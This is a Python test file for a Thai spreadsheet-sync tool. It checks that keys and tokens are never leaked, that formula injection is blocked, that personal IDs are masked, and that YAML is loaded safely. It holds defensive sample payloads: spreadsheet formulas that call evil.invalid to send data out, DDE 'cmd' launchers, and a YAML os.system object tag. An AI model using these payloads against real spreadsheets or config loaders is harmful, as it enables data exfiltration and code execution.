"""Secrets, formulas and personal data: what must never leave, and what must never run.

Credentials and tokens are never printed or logged and never sent anywhere but Google;
text staff typed never becomes a formula in anything the tool writes (Sheets, .xlsx, the
meeting pack, CSV); national IDs and phone numbers appear masked in every output channel;
configs are data, loaded with yaml.safe_load and never evaluated.
"""

from __future__ import annotations

import csv
import datetime as dt
import functools
import io
import json
import os
import re
import socket
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner, Result
from google_helpers import seed, store
from helpers import PHUKET, ROOT, VILLAGE, clean_tabs, phuket, row, snapshot, tab, write_xlsx

from kspo_sheets.cli import cli
from kspo_sheets.commands.sample import build_sample
from kspo_sheets.errors import EXIT_CONFIG, EXIT_CREDENTIALS, EXIT_OK, EXIT_REMOTE, EXIT_SOURCE
from kspo_sheets.model import Snapshot
from kspo_sheets.pipeline import run_sync
from kspo_sheets.standin import StandIn
from kspo_sheets.stores.xlsx.store import read_workbook
from kspo_sheets.thai.national_id import format_national_id
from kspo_sheets.thai.phones import format_phone
from kspo_sheets.thai.text import thai_digits_to_arabic

AS_OF = "2019-09-10"
FINDINGS, PROGRESS, HISTORY = "สถานะการตรวจสอบ", "สรุปความก้าวหน้า", "ประวัติการซิงก์"
OWNED = (FINDINGS, PROGRESS, HISTORY)
SYNC = [sys.executable, "-m", "kspo_sheets", "sync", "--config", str(PHUKET), "--as-of", AS_OF]


def kspo(*args: str) -> Result:
    return CliRunner().invoke(cli, [*args, "--config", str(PHUKET), "--as-of", AS_OF])


# --- credentials and tokens ----------------------------------------------------------------


class Key:
    """A service-account key file with a real (throwaway) RSA key, recognisable anywhere."""

    KEY_ID = "a1b2c3d4e5f6kspo0secret0key0id0000000000"

    def __init__(self, folder: Path, token_uri: str) -> None:
        from cryptography.hazmat.primitives import serialization
        from cryptography.hazmat.primitives.asymmetric import rsa

        private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        self.pem = private.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        ).decode()
        self.path = folder / "service-account.json"
        self.path.write_text(
            json.dumps(
                {
                    "type": "service_account",
                    "project_id": "kspo-test",
                    "private_key_id": self.KEY_ID,
                    "private_key": self.pem,
                    "client_email": "kspo-sync@kspo-test.iam.gserviceaccount.com",
                    "client_id": "100000000000000000001",
                    "token_uri": token_uri,
                }
            ),
            encoding="utf-8",
        )
        os.chmod(self.path, 0o600)

    def secrets(self) -> list[str]:
        """Every piece of the key that must never show: its id and each line of its body."""
        body = [line for line in self.pem.splitlines() if line and "-----" not in line]
        return [self.KEY_ID, "PRIVATE KEY", *body]


def leaks(text: str, secrets: list[str]) -> list[str]:
    found = [s[:20] for s in secrets if s in text]
    found += re.findall(r"Bearer\s+\S{0,12}", text)
    found += re.findall(r"eyJ[A-Za-z0-9_-]{20,}", text)  # a JWT (the signed token request)
    return found


class TokenEndpoint:
    """A local OAuth token endpoint that refuses every key, and remembers what it was sent."""

    def __init__(self) -> None:
        received: list[str] = []
        self.received = received

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                received.append(self.rfile.read(length).decode())
                body = b'{"error": "invalid_grant", "error_description": "Invalid JWT Signature."}'
                self.send_response(400)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/token"
        serve = functools.partial(self.server.serve_forever, poll_interval=0.05)
        threading.Thread(target=serve, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def token_endpoint() -> Iterator[TokenEndpoint]:
    endpoint = TokenEndpoint()
    yield endpoint
    endpoint.close()


def run(args: list[str], env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(args, env=env, cwd=cwd, capture_output=True, text=True, timeout=120)


def test_credentials_and_tokens_never_printed_or_logged(
    sheets_standin: StandIn, tmp_path: Path
) -> None:
    key = Key(tmp_path, "https://oauth2.googleapis.com/token")
    sid = seed(sheets_standin, snapshot(*clean_tabs()))
    log = tmp_path / "logs" / "kspo.log"
    env = {**os.environ, "KSPO_SHEETS_API_ROOT": sheets_standin.url}
    common = ["--source", sid, "--credentials", str(key.path), "--log-file", str(log), "--json"]
    done = run([*SYNC, *common], env, tmp_path)
    assert done.returncode == EXIT_OK, done.stderr
    sheets_standin.fail(403, times=10)
    refused = run([*SYNC, *common], env, tmp_path)
    assert refused.returncode == EXIT_SOURCE and "Share the spreadsheet" in refused.stderr
    doctor_args = ["doctor", "--config", str(PHUKET), "--source", sid]
    doctor = run(
        [sys.executable, "-m", "kspo_sheets", *doctor_args, "--credentials", str(key.path)],
        env,
        tmp_path,
    )
    outputs = [done.stdout, done.stderr, refused.stdout, refused.stderr, doctor.stdout]
    outputs.append(log.read_text(encoding="utf-8"))
    assert '"event": "done"' in outputs[0] and '"event": "error"' in outputs[-1]
    for text in outputs:
        assert not leaks(text, key.secrets())
    # No token to a host other than Google's: the stand-in never saw an Authorization header.
    assert sheets_standin.requests
    assert not [r for r in sheets_standin.requests if r.authorization]


def test_a_token_endpoint_out_of_reach_exits_6_without_showing_the_key(tmp_path: Path) -> None:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        closed = s.getsockname()[1]
    key = Key(tmp_path, f"http://127.0.0.1:{closed}/token")
    env = {k: v for k, v in os.environ.items() if k != "KSPO_SHEETS_API_ROOT"}
    env["KSPO_RETRY_BUDGET"] = "0.5"
    log = tmp_path / "kspo.log"
    sid = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdef"
    done = run(
        [*SYNC, "--source", sid, "--credentials", str(key.path), "--log-file", str(log)],
        env,
        tmp_path,
    )
    assert done.returncode == EXIT_REMOTE, done.stderr
    assert "token endpoint" in done.stderr and "Traceback" not in done.stderr
    for text in (done.stdout, done.stderr, log.read_text(encoding="utf-8")):
        assert not leaks(text, key.secrets())


def test_a_refused_key_exits_7_without_showing_the_key_or_the_signed_request(
    tmp_path: Path, token_endpoint: TokenEndpoint
) -> None:
    key = Key(tmp_path, token_endpoint.url)
    env = {k: v for k, v in os.environ.items() if k != "KSPO_SHEETS_API_ROOT"}
    log = tmp_path / "kspo.log"
    sid = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdef"
    args = ["--source", sid, "--credentials", str(key.path), "--log-file", str(log), "--json"]
    done = run([*SYNC, *args], env, tmp_path)
    assert done.returncode == EXIT_CREDENTIALS, done.stderr
    assert "invalid_grant" in done.stderr and "new JSON key" in done.stderr
    assert token_endpoint.received  # the key was used to sign a token request, locally
    assertion = token_endpoint.received[0].split("assertion=")[-1]
    for text in (done.stdout, done.stderr, log.read_text(encoding="utf-8")):
        assert not leaks(text, [*key.secrets(), assertion])


# --- formula injection, both directions ----------------------------------------------------

# Staff text a spreadsheet would take for a formula, where each shows in the status tab.
INJECTED = {
    ("villages", "amphoe"): '=HYPERLINK("http://evil.invalid/?"&A1,"คลิก")',
    ("buyers", "buyer_type"): "@SUM(1+1)*cmd|' /C calc'!A0",
    ("honorees", "sector"): "-2+3+cmd|' /C calc'!A0",
    ("target_products", "product_id"): "=T-001",
    ("linkages", "monthly_kg"): "+1+1",
}
QUOTED_ID = 'P-1")+IMPORTXML("http://evil.invalid","//a")+("'


def injected() -> Snapshot:
    tabs = {t.title: t for t in clean_tabs()}
    for (register, column), text in INJECTED.items():
        spec = phuket().registers[register]
        t = tabs[spec.tab]
        t.rows[1][[c.key for c in spec.columns].index(column)] = text
    t = tabs[phuket().registers["producers"].tab]
    t.rows[1][0] = QUOTED_ID
    return snapshot(*tabs.values())


def test_staff_text_never_becomes_a_formula_in_the_sheets_status_tab(
    sheets_standin: StandIn,
) -> None:
    key = seed(sheets_standin, injected())
    run_sync(phuket(), None, as_of=dt.date(2019, 9, 10), store=store(sheets_standin, key))
    cells = {}
    for r, line in enumerate(sheets_standin.state.sheet(key, FINDINGS).rows):
        for c, cell in enumerate(line):
            entered = (cell or {}).get("userEnteredValue")
            if entered:
                cells[(r, c)] = entered
    strings = {e["stringValue"] for e in cells.values() if "stringValue" in e}
    assert set(INJECTED.values()) <= strings
    formulas = {k: e["formulaValue"] for k, e in cells.items() if "formulaValue" in e}
    assert formulas and all(
        c == 4 and re.fullmatch(r'=HYPERLINK\("#gid=\d+&range=[A-Z]+\d+","[A-Z]+\d+"\)', f)
        for (_, c), f in formulas.items()
    ), formulas
    # A row ID in a highlight rule stays one string literal, whatever quotes it holds.
    rules = sheets_standin.state.sheet(key, "ผู้ผลิต").conditional_formats
    texts = [v["userEnteredValue"] for r in rules for v in r["booleanRule"]["condition"]["values"]]
    assert any('="' + QUOTED_ID.replace('"', '""') + '"' in t for t in texts), texts


def test_staff_text_never_becomes_a_formula_in_the_xlsx_status_tab_or_the_pack(
    tmp_path: Path,
) -> None:
    path = write_xlsx(tmp_path / "injected.xlsx", *injected().tabs.values())
    res = kspo("sync", "--source", str(path))
    assert res.exit_code == EXIT_OK, res.output
    ws = openpyxl.load_workbook(path)[FINDINGS]
    seen = {}
    for line in ws.iter_rows():
        for c in line:
            assert c.data_type != "f", (c.coordinate, c.value)
            if isinstance(c.value, str):
                seen[c.value] = c.data_type
    assert {seen.get(text) for text in INJECTED.values()} == {"s"}
    res = kspo("pack", "--source", str(path), "--out-dir", str(tmp_path / "packs"))
    assert res.exit_code == EXIT_OK, res.output
    (pack,) = (tmp_path / "packs").glob("*.xlsx")
    with zipfile.ZipFile(pack) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", z.read(name)), name


def test_csv_output_quotes_what_a_spreadsheet_would_run(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "injected.xlsx", *injected().tabs.values())
    res = kspo("validate", "--source", str(path), "--format", "csv")
    rows = list(csv.reader(io.StringIO(res.output)))
    assert len(rows) > len(INJECTED)
    fields = [f for r in rows for f in r]
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for text in INJECTED.values():
        assert "'" + text in fields, text


# --- personal data: masked in every output channel -----------------------------------------


@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("pdpa") / "sample.xlsx"
    build_sample(path)
    return path


def personal_forms(path: Path) -> set[str]:
    """Every national ID and phone in the workbook: digits, as typed, and formatted."""
    snap, config = read_workbook(path), phuket()
    forms: set[str] = set()
    for spec in config.registers.values():
        cols = [
            i
            for i, c in enumerate(spec.columns)
            if "phone" in (c.personal, c.type) or "national_id" in (c.personal, c.type)
        ]
        rows = snap.tabs[spec.tab].rows
        for line in rows[1:]:
            for i in cols:
                typed = str(line[i]) if i < len(line) and line[i] is not None else ""
                digits = re.sub(r"\D", "", thai_digits_to_arabic(typed))
                if len(digits) < 8:
                    continue
                forms |= {digits, typed.strip()}
                if len(digits) == 13:
                    forms.add(format_national_id(digits))
                if digits.startswith("66"):
                    digits = "0" + digits[2:]
                    forms.add(digits)
                if len(digits) in (9, 10):
                    forms.add(format_phone(digits if digits[0] == "0" else "0" + digits))
    return {f for f in forms if len(re.sub(r"\D", "", f)) >= 8}


def shown(text: str, forms: set[str]) -> list[str]:
    return sorted(f for f in forms if f in text)


def test_no_national_id_or_phone_in_any_output_channel(
    sample: Path, tmp_path: Path, sheets_standin: StandIn
) -> None:
    forms = personal_forms(sample)
    assert len(forms) > 400  # the sample's IDs and phones in all their forms
    channels: dict[str, str] = {}
    for fmt in ("table", "json", "csv"):
        res = kspo("validate", "--source", str(sample), "--format", fmt)
        assert res.exit_code == 1 and res.output
        channels[f"validate {fmt}"] = res.output
    work = tmp_path / "work.xlsx"
    work.write_bytes(sample.read_bytes())
    log, jlog = tmp_path / "text.log", tmp_path / "json.log"
    res = kspo("sync", "--source", str(work), "--log-file", str(log), "-v")
    assert res.exit_code == EXIT_OK, res.output
    channels["sync -v"] = res.output
    res = kspo("sync", "--source", str(work), "--log-file", str(jlog), "--json")
    assert res.exit_code == EXIT_OK, res.output
    channels["sync --json"] = res.output
    channels["log file"] = log.read_text(encoding="utf-8")
    channels["json log file"] = jlog.read_text(encoding="utf-8")
    wb = openpyxl.load_workbook(work)
    channels["xlsx status tabs"] = "\n".join(
        str(v) for t in OWNED for r in wb[t].iter_rows(values_only=True) for v in r if v
    )
    key = seed(sheets_standin, read_workbook(sample))
    run_sync(phuket(), None, as_of=dt.date(2019, 9, 10), store=store(sheets_standin, key))
    channels["Google status tabs"] = "\n".join(
        "\t".join(r) for t in OWNED for r in sheets_standin.state.values(key, t)
    )
    res = kspo("pack", "--source", str(sample), "--out-dir", str(tmp_path / "packs"))
    assert res.exit_code == EXIT_OK, res.output
    channels["pack"] = res.output
    (pack,) = (tmp_path / "packs").glob("*.xlsx")
    with zipfile.ZipFile(pack) as z:
        channels["pack"] += "\n".join(z.read(n).decode("utf-8") for n in z.namelist())
    assert "x-xxxx-xxxxx-xx-" in channels["validate json"]  # masked, not left out
    # The check would see them: an internal pack with personal data shows them.
    res = kspo(
        "pack",
        "--source",
        str(sample),
        "--out-dir",
        str(tmp_path / "internal"),
        "--force",
        "--include-personal",
    )
    assert res.exit_code == EXIT_OK, res.output
    (internal,) = (tmp_path / "internal").glob("*.xlsx")
    with zipfile.ZipFile(internal) as z:
        assert shown("\n".join(z.read(n).decode("utf-8") for n in z.namelist()), forms)
    leaked = {name: shown(text, forms) for name, text in channels.items()}
    assert not {name: found for name, found in leaked.items() if found}


# --- configs are data ----------------------------------------------------------------------


@pytest.mark.parametrize("name", ["phuket.yaml", "registers.yaml", "indicators.yaml"])
def test_configs_refuse_python_tags_and_are_never_evaluated(tmp_path: Path, name: str) -> None:
    for f in ("phuket.yaml", "registers.yaml", "indicators.yaml"):
        (tmp_path / f).write_text((ROOT / "configs" / f).read_text(encoding="utf-8"), "utf-8")
    pwned = tmp_path / "pwned"
    payload = f'evil: !!python/object/apply:os.system ["touch {pwned}"]\n'
    target = tmp_path / name
    target.write_text(payload + target.read_text(encoding="utf-8"), encoding="utf-8")
    clean = write_xlsx(tmp_path / "clean.xlsx", *clean_tabs())
    res = CliRunner().invoke(
        cli, ["validate", "--config", str(tmp_path / "phuket.yaml"), "--source", str(clean)]
    )
    assert res.exit_code == EXIT_CONFIG, res.output
    assert name in res.output and "not valid YAML" in res.output
    assert not pwned.exists()


def test_a_village_row_with_a_formula_for_a_phone_is_reported_masked(tmp_path: Path) -> None:
    """A personal column holding formula-like text: masked in output, and still text."""
    village = {**VILLAGE, "phone": "=0812345678+1"}
    tabs = {t.title: t for t in clean_tabs()}
    tabs["หมู่บ้าน"] = tab("villages", row("villages", **village))
    path = write_xlsx(tmp_path / "v.xlsx", *tabs.values())
    res = kspo("validate", "--source", str(path), "--format", "json")
    (found,) = [f for f in json.loads(res.output)["findings"] if f["column"] == "โทรศัพท์"]
    assert "0812345678" not in res.output and found["value"].startswith("xxx-")
